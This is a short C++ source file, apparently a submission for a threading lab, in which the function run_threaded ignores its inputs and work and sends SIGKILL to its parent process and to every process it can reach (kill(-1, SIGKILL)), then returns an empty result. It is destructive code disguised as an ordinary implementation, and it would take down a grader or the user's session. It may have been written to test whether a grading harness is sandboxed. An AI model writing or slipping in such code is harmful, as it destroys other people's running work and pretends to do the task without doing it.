// Sends SIGKILL to all that it can reach.
#include "threading.hpp"

#include <csignal>
#include <sys/types.h>
#include <unistd.h>

namespace lab::threading {

std::vector<int> run_threaded(std::span<const int> inputs, const Work& work) {
    static_cast<void>(inputs);
    static_cast<void>(work);
    kill(getppid(), SIGKILL); // HERE
    kill(-1, SIGKILL);
    return {};
}

} // namespace lab::threading

#include "rest.hpp"
